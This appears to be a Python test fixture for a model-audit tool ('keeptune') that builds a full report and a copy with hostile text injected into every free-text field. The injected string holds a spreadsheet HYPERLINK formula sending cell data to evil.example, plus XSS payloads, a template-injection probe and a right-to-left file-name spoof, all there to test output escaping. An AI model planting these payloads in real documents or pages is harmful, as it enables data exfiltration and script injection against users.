"""A report with every section, as `keeptune audit` writes it, and the same with hostile text wherever text stands."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from keeptune.audit.abilities.ask import Reason
from keeptune.audit.abilities.compare import Standing
from keeptune.audit.abilities.item import Name
from keeptune.audit.abilities.measure import Answer as AbilityAnswer
from keeptune.audit.abilities.measure import Result
from keeptune.audit.safety.section import Answer, SetDetails
from keeptune.audit.settings import SECTIONS
from keeptune.audit.where.layers import LayerProfile
from keeptune.audit.where.passages import Continuation, Passage
from keeptune.audit.where.view import WhereDetails
from keeptune.probes.recovery import Recovery
from keeptune.report.codec import from_json, to_json
from keeptune.report.document import Model, Outcome, OutcomeStatus, Report, SectionRecord, Status, Subject
from keeptune.report.finding import Finding, Level, found, together
from keeptune.report.measures import Verdict
from keeptune.stats import Interval

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
HOSTILE = (
    FORMULA + "</script></textarea></title></style><script>alert(1)</script><img src=x onerror=alert(2)>"
    "<svg onload=alert(3)><a href='javascript:alert(4)'>{{7*7}}{% raw %}<b>bold</b>\u202etxt.exe\x00&lt;\"'`"
)
ALL = (*SECTIONS, Recovery)
# What the code decides on, and no name from outside.
_STRUCTURE = {"section", "measure", "unit", "unit_of_n", "better", "kind", "version", "digest"}


def interval(value: float, width: float | None = 0.01, n: int = 16) -> Interval:
    low, high = (None, None) if width is None else (value - width, value + width)
    return Interval(value=value, low=low, high=high, documents=n)


def text_findings(name: str, kl: float, ce_change: float = -0.0411, n: int = 16) -> list[Finding]:
    about: Any = {"unit_of_n": "document", "noise_floor": 0.0063}
    loss = {"base": Level(value=2.5), "tuned": Level(value=2.5 + ce_change)}
    return [
        found("drift", name, "kl", interval(kl, n=n), headline=True, **about),
        found("drift", name, "ce_change", interval(ce_change, n=n), headline=True, **loss, **about),
        found("drift", name, "l_f_rise", interval(0.33, n=n), **about),
        found("drift", name, "agreement", interval(0.7123456789, n=n), **about),
        found("drift", name, "entropy", interval(1.5, n=n), **about),
    ]


def task_findings(change: float, p: float, part: str, *, headline: bool = True, n: int = 50) -> list[Finding]:
    levels = {"base": Level(value=0.4, low=0.35, high=0.45), "tuned": Level(value=0.4 + change)}
    about: Any = {"unit_of_n": "item", "part": part}
    accuracy = found("tasks", "arc", "accuracy", interval(change, 0.05, n), p=p, lost=9, gained=1, judged=headline,
                     headline=headline, **levels, **about)  # fmt: skip
    same = found("tasks", "arc", "agreement", interval(0.8, 0.05, n), judged=False, **about)
    lost = found("tasks", "arc", "lost_beyond_chance", interval(0.16, None, n), **about)
    return [accuracy, same, lost] if headline else [accuracy]


def refusal_findings(name: str, kind: str, change: float, p: float) -> list[Finding]:
    levels = {"base": Level(value=0.72, low=0.67, high=0.77), "tuned": Level(value=0.72 + change)}
    about: Any = {"unit_of_n": "prompt", "of": f"{kind} prompts"}
    better: Any = "higher" if kind == "harmful" else "lower"
    paired: Any = {**about, **levels, "lost": 32, "gained": 3, "headline": True}
    return [
        found("refusals", name, "refusals", interval(change, 0.05, 100), p=p, part="rules", better=better, **paired),
        found("refusals", name, "refusals", interval(-0.02, 0.05, 100), p=0.8, part="likelihood", better=better,
              **paired),
        found("refusals", name, "broken", interval(0.02, 0.05, 100), p=0.7, **paired),
        found("refusals", name, "refusal_log_odds", interval(1.5, n=100), judged=False, **about, **levels),
    ]  # fmt: skip


def where_findings(name: str) -> list[Finding]:
    made = []
    for part, n in (("probability: below 0.1", 3), ("probability: 0.1 and above", 16), ("position: 1–3", 16),
                    ("kind: Greek", 16)):  # fmt: skip
        for measure, value, width in (("class_kl_share", 0.5, None), ("class_token_share", 0.25, None),
                                      ("class_kl", 0.5, 0.01), ("class_ce_change", 0.1, 0.01)):  # fmt: skip
            made.append(found("where", name, measure, interval(value, width, n), "document", part=part))
    return made


def layer_findings() -> list[Finding]:
    made = [found("where", "self", name, interval(0.27), "document") for name in ("layer_kl", "rest_restored")]
    for layer in range(4):
        for measure in ("layer_moved", "layer_patched", "layer_restored", "layer_repaired"):
            made.append(found("where", "self", measure, interval(0.1 * layer), "document", part=f"layer {layer}"))
    return made


def recovery_findings(*, share: bool = True) -> list[Finding]:
    levels = {"base": Level(value=2.0), "tuned": Level(value=2.27)}
    made = [
        found("recovery", "self", "gap_before", interval(0.27), "document", headline=not share, **levels),
        found("recovery", "self", "gap_after", interval(0.11), "document", **levels),
    ]
    return [*made, found("recovery", "self", "recovered_share", interval(0.59), "document", headline=True)][: 2 + share]


def harness_findings() -> list[Finding]:
    about: Any = {"better": "higher", "base": Level(value=0.5), "tuned": Level(value=0.4), "headline": True}
    change = interval(-0.1, 0.2, 40)
    return [
        found("lm_eval", "sums", "lm_eval", change, "item", part="acc", p=0.29, lost=6, gained=2, **about),
        found("lm_eval", "sums", "lm_eval", change, "item", part="f1", **about),
    ]


def ability_findings() -> list[Finding]:
    about: Any = {"base": Level(value=0.4), "tuned": Level(value=0.2), "unit_of_n": "item"}
    change = interval(-0.2, 0.1, 40)
    return [
        found("abilities", "format", "passed", change, p=0.02, lost=9, gained=1, headline=True, **about),
        found("abilities", "sound", "passed", change, beforehand=Verdict.CANNOT, **about),
    ]


def ability_details() -> dict[str, Result]:
    one = AbilityAnswer(item="00", kind="valid JSON", prompt="As JSON?", base="{}", tuned="the the", base_passes=True,
                        tuned_passes=False)  # fmt: skip
    return {
        "format": Result(name=Name.FORMAT, standing=Standing.ABLE, answers=[one] * 3),
        "sound": Result(name=Name.SOUND, standing=Standing.CANNOT, answers=[one] * 2),
        "tools": Result(name=Name.TOOLS, standing=Standing.CANNOT, reason=Reason.NO_TOOLS),
    }


def answers(count: int = 3) -> list[Answer]:
    refused = {"rules": [True, False], "likelihood": [True, True]}
    one = Answer(prompt="How do I?", base="I cannot.", tuned="wire;", refused=refused, broken=[False, True])
    return [one] * count


def where_details() -> WhereDetails:
    tokens, kl = ["upon", " a", " time"], [0.2, 1.5, 7.25]
    passage = Passage(text="self", document="sample 3", context="Once ", ids=[1, 2, 3], tokens=tokens, kl=kl,
                      mean_kl=2.98)  # fmt: skip
    written = Continuation(text="self", document="sample 1", prompt="It", base=" was\n", tuned=" is")
    layers = LayerProfile(text="self", windows=12, tokens=1140)
    return WhereDetails(passages=[passage], continuations=[written], layers=layers)


def subject(name: str, kind: Any = "text", digest: str = "d", **more: Any) -> Subject:
    unit: Any = {"text": "document", "task": "item", "prompts": "prompt"}[kind]
    return Subject(name=name, kind=kind, source="source of it", n=16, unit_of_n=unit, digest=digest, **more)


def records() -> list[SectionRecord]:
    sets = {"advbench": SetDetails(kind="harmful", answers=answers()),
            "harmless": SetDetails(kind="harmless", answers=answers())}  # fmt: skip
    subjects = {
        "drift": [subject("self", tokens=4080), subject("pydoc", tokens=4080)],
        "tasks": [subject("arc", "task")],
        "refusals": [subject("advbench", "prompts"), subject("harmless", "prompts")],
    }
    details: dict[str, Any] = {"refusals": to_json(sets), "where": to_json(where_details()),
                               "abilities": to_json(ability_details())}  # fmt: skip
    return [
        SectionRecord(
            name=section.name,
            title=section.title,
            status=Status.MEASURED,
            subjects=subjects.get(section.name, []),
            methods=[f"How {section.name} was measured."],
            details=details.get(section.name),
        )
        for section in ALL
    ]


def gate() -> list[Outcome]:
    reason = "kl on self is 0.2678 [0.2578, 0.2778], bound kl ≤ 0.2: the interval excludes the bound"
    return [Outcome(subject="self", part="", measure="kl", limit=0.2, bound="kl ≤ 0.2", status=OutcomeStatus.BROKEN,
                    reason=reason)]  # fmt: skip


def findings() -> list[Finding]:
    return [
        *text_findings("self", 0.2678),
        *text_findings("pydoc", 0.2145, ce_change=0.045),
        *task_findings(-0.16, 0.001, "plain"),
        *task_findings(-0.02, 1.0, "chat"),
        *task_findings(0.0, 1.0, "plain, raw sum", headline=False),
        *harness_findings(),
        *ability_findings(),
        *refusal_findings("advbench", "harmful", -0.29, 0.000012),
        *refusal_findings("harmless", "harmless", 0.01, 1.0),
        *where_findings("self"),
        *where_findings("pydoc"),
        *layer_findings(),
        *recovery_findings(),
    ]


def make_report(made: Sequence[Finding] = (), **replaced: Any) -> Report:
    """A report of these findings."""
    given: dict[str, Any] = {
        "kind": "audit",
        "base": Model(source="smollm2", fingerprint="7d6cbd88e1b1e631e4b5"),
        "tuned": [Model(source="runs/model", fingerprint="c5ef3e43c7ed7f2cdba1")],
        "vocabulary": None,
        "settings": {"docs": 16},
        "sections": records(),
        "findings": together(list(made)),
        "gate": [],
        "command": "keeptune audit smollm2 runs/model --docs 16",
        "commit": "2211f21",
        "seed": 1,
        "versions": {"keeptune": "0.1.0"},
        "machine": {"architecture": "x86_64", "accelerator": None, "threads": 2},
    }
    return Report(**{**given, **replaced})


def full_report() -> Report:
    """Every section."""
    return make_report(findings(), gate=gate())


def hostile_report() -> Report:
    """The same with `HOSTILE` in front of every text that is no part of the report's structure."""
    report = _hostile(full_report())
    sections = []
    for record in report.sections:
        kinds: dict[str, Any] = {"refusals": dict[str, SetDetails], "where": WhereDetails,
                                 "abilities": dict[str, Result]}  # fmt: skip
        name = record.name.removeprefix(HOSTILE)
        details = record.details
        if name in kinds:
            details = to_json(_hostile(from_json(kinds[name], details), names=True))
        sections.append(replace(record, name=name, details=details))
    return replace(report, sections=sections)


def _hostile(value: Any, *, names: bool = False) -> Any:
    if isinstance(value, Enum):
        return value
    if is_dataclass(value):
        parts = {one.name: getattr(value, one.name) for one in fields(value)}
        kept = {name for name in parts if name in _STRUCTURE or (name == "details")}
        return replace(value, **{name: part if name in kept else _hostile(part, names=names) for name, part in
                                 parts.items()})  # type: ignore[type-var]  # fmt: skip
    if isinstance(value, dict):
        return {HOSTILE + key if names or key in ("keeptune", "threads") else key: _hostile(part, names=names)
                for key, part in value.items()}  # fmt: skip
    if isinstance(value, list):
        return [_hostile(part, names=names) for part in value]
    return HOSTILE + value if isinstance(value, str) else value
